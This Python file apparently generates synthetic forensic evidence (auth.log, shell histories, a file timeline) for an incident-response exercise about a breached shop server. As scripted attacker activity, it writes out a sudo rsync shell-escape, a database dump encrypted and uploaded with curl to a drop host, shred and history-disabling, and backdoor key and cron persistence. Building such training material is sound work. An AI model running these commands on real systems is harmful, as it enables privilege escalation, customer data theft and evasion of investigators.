"""What was taken from the disk of web01 itself: logins, shell histories and the times of files."""

import datetime
import os
import pathlib

import story as s

ACCOUNTS = {'khoa': 1001, 'songhan': 1101, 'giaonhanh': 1102, 'xuongin': 1103, 'saoluu': 1110}
GUESSED = 'root admin test ubuntu oracle postgres git deploy www guest pi user ftp nagios minecraft hadoop'.split()


class HostLogs:
    def __init__(self, story):
        self.story = story
        self.chance = story.chance('host')
        self.lines, self.sessions = [], []

    def line(self, when, program, text):
        pid = self.chance.randrange(600, 32000)
        self.lines.append((when, f'{when.strftime("%b %d %H:%M:%S")} web01 {program}[{pid}]: {text}'))

    def session(self, when, account, address, method, minutes):
        port = self.chance.randrange(32768, 61000)
        self.line(when, 'sshd', f'Accepted {method[0]} for {account} from {address} port {port} ssh2{method[1]}')
        self.line(
            when,
            'sshd',
            f'pam_unix(sshd:session): session opened for user {account}(uid={ACCOUNTS[account]}) by (uid=0)',
        )
        end = when + datetime.timedelta(minutes=minutes, seconds=self.chance.randrange(50))
        self.sessions.append((when, address, int((end - when).total_seconds())))
        self.line(end, 'sshd', f'Disconnected from user {account} {address} port {port}')
        self.line(end, 'sshd', f'pam_unix(sshd:session): session closed for user {account}')

    def key(self, name):
        return ('publickey', f': ED25519 {self.story.keys[name]}')

    def guessing(self):
        """Machines that try passwords day and night, as at every server; none gets in."""
        sources = [f'192.0.2.{130 + self.chance.randrange(75)}' for _ in range(6)]
        for when in s.moments(self.chance, s.FIRST, s.LAST, 70):
            address, name = self.chance.choice(sources), self.chance.choice(GUESSED)
            self.sessions.append((when, address, 2))
            who = 'root' if name == 'root' else f'invalid user {name}'
            if name != 'root':
                self.line(
                    when, 'sshd', f'Invalid user {name} from {address} port {self.chance.randrange(32768, 61000)}'
                )
            self.line(
                when,
                'sshd',
                f'Failed password for {who} from {address} port {self.chance.randrange(32768, 61000)} ssh2',
            )

    def cron(self):
        when = s.FIRST + datetime.timedelta(minutes=9, seconds=1)
        while when < s.LAST:
            self.line(when, 'CRON', 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)')
            self.line(when, 'CRON', 'pam_unix(cron:session): session closed for user root')
            when += datetime.timedelta(minutes=15)

    def regulars(self):
        """Partners, the backup and the administrator, each in their own way."""
        for number in range(5):
            day = s.FIRST + datetime.timedelta(days=number)
            self.session(
                day + datetime.timedelta(hours=1, minutes=30, seconds=2), 'saoluu', s.NAS, self.key('nas_key'), 41
            )
            if number == 4:
                return
            for hour in range(6, 22, 2):
                when = day + datetime.timedelta(hours=hour, minutes=4, seconds=self.chance.randrange(60))
                self.session(when, 'giaonhanh', s.PARTNERS['giaonhanh'], self.key('giaonhanh'), 1)
            for hour in (8, 11, 16):
                when = day + datetime.timedelta(hours=hour, minutes=self.chance.randrange(20, 50))
                self.session(when, 'songhan', s.PARTNERS['songhan'], self.key('songhan'), 6)
            when = day + datetime.timedelta(hours=20, minutes=self.chance.randrange(60))
            self.session(when, 'xuongin', s.PARTNERS['xuongin'], self.key('xuongin'), 9)
            when = day + datetime.timedelta(hours=9, minutes=self.chance.randrange(50))
            khoa = self.story.address_of('khoa', day)
            for _ in range(self.chance.randrange(3)):
                self.line(
                    when,
                    'sshd',
                    f'Failed password for khoa from {khoa} port {self.chance.randrange(32768, 61000)} ssh2',
                )
                when += datetime.timedelta(seconds=7)
            self.session(when, 'khoa', khoa, ('password', ''), 35)
            when += datetime.timedelta(minutes=4)
            self.line(
                when, 'sudo', 'khoa : TTY=pts/0 ; PWD=/home/khoa ; USER=root ; COMMAND=/usr/bin/apt-get upgrade'
            )

    def night(self):
        story = self.story
        # Somebody of another partner's, on the way home: the usual key from an unusual address.
        other = next(name for name in s.PARTNERS if name != story.partner)
        self.session(
            s.at(13, '23:47:31'), other, story.photographer.replace('100.64', '100.71'), self.key(other), 3
        )
        for seconds in (31, 62):
            failed = story.login - datetime.timedelta(seconds=seconds)
            self.line(
                failed,
                'sshd',
                f'Failed password for {story.partner} from {story.relay} port {40000 + seconds} ssh2',
            )
        self.session(story.login, story.partner, story.relay, ('password', ''), 4)
        minutes = int((story.left - story.second_login).total_seconds() / 60)
        self.session(story.second_login, story.partner, story.relay, ('password', ''), minutes)
        sudo = story.became_root
        command = "/usr/bin/rsync -e 'sh -c \"bash 0<&2 1>&2\"' 127.0.0.1:/dev/null"
        self.line(
            sudo, 'sudo', f'{story.partner} : TTY=pts/1 ; PWD=/home/{story.partner} ; USER=root ; COMMAND={command}'
        )
        self.line(
            sudo,
            'sudo',
            f'pam_unix(sudo:session): session opened for user root(uid=0) by {story.partner}(uid={ACCOUNTS[story.partner]})',
        )
        self.session(s.at(14, '03:31:48'), 'saoluu', story.relay, self.key('intruder_key'), 2)

    def history(self, entries):
        return ''.join(f'#{int(when.timestamp())}\n{command}\n' for when, command in entries)

    def histories(self, folder):
        story, password = self.story, self.story.values['archive_password']
        step = datetime.timedelta(seconds=1)
        root = [
            (s.at(11, '09:41:10') + number * 55 * step, command)
            for number, command in enumerate(
                (
                    'apt-get update',
                    'apt-get upgrade',
                    'systemctl restart apache2',
                    'df -h',
                    'ls -lh /var/log/apache2',
                    'exit',
                )
            )
        ]
        query = 'SELECT don, ma_khach, ho_ten, dien_thoai, dia_chi, tong_tien '
        query += 'FROM don_hang JOIN khach_hang USING (ma_khach)'
        looks = (
            (9, 'id; hostname -I'),
            (30, 'ls -la /var/lib/gom'),
            (98, "sqlite3 /var/lib/gom/cua-hang.db '.tables'"),
            (160, "sqlite3 /var/lib/gom/cua-hang.db '.schema khach_hang'"),
        )
        takes = (
            (-410, f'sqlite3 -csv -header /var/lib/gom/cua-hang.db "{query}" > /dev/shm/.t'),
            (-371, 'head -2 /dev/shm/.t'),
            (-322, 'gzip -9 /dev/shm/.t'),
            (
                -205,
                f"openssl enc -aes-256-cbc -pbkdf2 -pass 'pass:{password}' -in /dev/shm/.t.gz -out /dev/shm/anh.bin",
            ),
            (0, f'curl -s -T /dev/shm/anh.bin http://{story.drop}:8080/u/'),
            (31, 'shred -u /dev/shm/.t.gz /dev/shm/anh.bin'),
            (55, 'set +o history'),
        )
        root += [(story.became_root + seconds * step, command) for seconds, command in looks]
        root += [(story.exfiltration + seconds * step, command) for seconds, command in takes]
        (folder / 'root.bash_history').write_text(self.history(root))
        partner = (
            (5, 'id'),
            (17, 'sudo -l'),
            (52, 'ls -la / /srv/gom'),
            (230, 'exit'),
            (460, 'sudo -l'),
            (555, 'export HISTFILE=/dev/null'),
        )
        (folder / f'{story.partner}.bash_history').write_text(
            self.history((story.login + seconds * step, command) for seconds, command in partner)
        )
        work = (
            'ls',
            'cd /srv/gom',
            'sudo apt-get upgrade',
            'tail -f /var/log/apache2/error.log',
            'htop',
            'passwd',
            'man rsync',
            'exit',
        )
        entries = [
            (s.at(10 + number // 14, '09:40:00') + number * 91 * step, self.chance.choice(work))
            for number in range(52)
        ]
        (folder / 'khoa.bash_history').write_text(self.history(entries))

    def timeline(self, path):
        """The times of files, with a whole Debian around the few that matter."""
        rows = []
        for root, _, names in os.walk('/usr'):
            if len(rows) > 9000:
                break
            for name in names:
                place = pathlib.Path(root, name)
                if place.is_symlink() or 'shark' in str(place):
                    continue
                size = place.stat().st_size
                day = s.FIRST - datetime.timedelta(
                    days=self.chance.randrange(60, 400), seconds=self.chance.randrange(86400)
                )
                rows.append((day, size, '0644' if 'bin' not in root else '0755', 0, 0, str(place)))
        story = self.story
        photo_time = s.at(13, '22:54:00')
        for stem, number in s.PHOTOS.items():
            for step in range(9):
                photo_time += datetime.timedelta(seconds=self.chance.randrange(25, 80))
                rows.append(
                    (
                        photo_time,
                        640 + step,
                        '0644',
                        33,
                        33,
                        f'/srv/gom/public/anh/sp/{stem}-{number + step * 7}.png',
                    )
                )
        for hour in range(0, 80):
            rows.append(
                (
                    s.FIRST + datetime.timedelta(hours=hour, minutes=7),
                    4096,
                    '0600',
                    33,
                    33,
                    f'/var/lib/gom/phien/sess_{self.chance.randrange(16**16):016x}',
                )
            )
        rows += [
            (story.upload, 111, '0644', 33, 33, f'/srv/gom/public/anh/sp/{story.shell}'),
            (s.at(14, '01:52:40'), 733184, '0600', 33, 33, '/var/lib/gom/cua-hang.db'),
            (story.exfiltration + datetime.timedelta(seconds=56), 512, '0600', 0, 0, '/root/.bash_history'),
            (s.at(14, '03:24:37'), 188, '0600', 1110, 1110, '/home/saoluu/.ssh/authorized_keys'),
            (s.at(14, '03:26:11'), 1040, '0755', 0, 0, '/usr/lib/php/sessionclean-gc'),
            (s.at(14, '03:26:40'), 119, '0644', 0, 0, '/etc/cron.d/php-gc'),
            (s.at(14, '08:39:00'), 201113, '0640', 0, 4, '/var/log/auth.log'),
        ]
        lines = [
            f'{when.strftime("%Y-%m-%d %H:%M:%S")},{size},{mode},{uid},{gid},{place}'
            for when, size, mode, uid, gid, place in sorted(rows)
        ]
        path.write_text('mtime,size,mode,uid,gid,path\n' + '\n'.join(lines) + '\n')

    def write(self, folder):
        for part in (self.guessing, self.cron, self.regulars, self.night):
            part()
        self.lines.sort(key=lambda line: line[0])
        (folder / 'auth.log').write_text('\n'.join(text for when, text in self.lines if when < s.LAST) + '\n')
        (folder / 'history').mkdir()
        self.histories(folder / 'history')
        self.timeline(folder / 'timeline.csv')
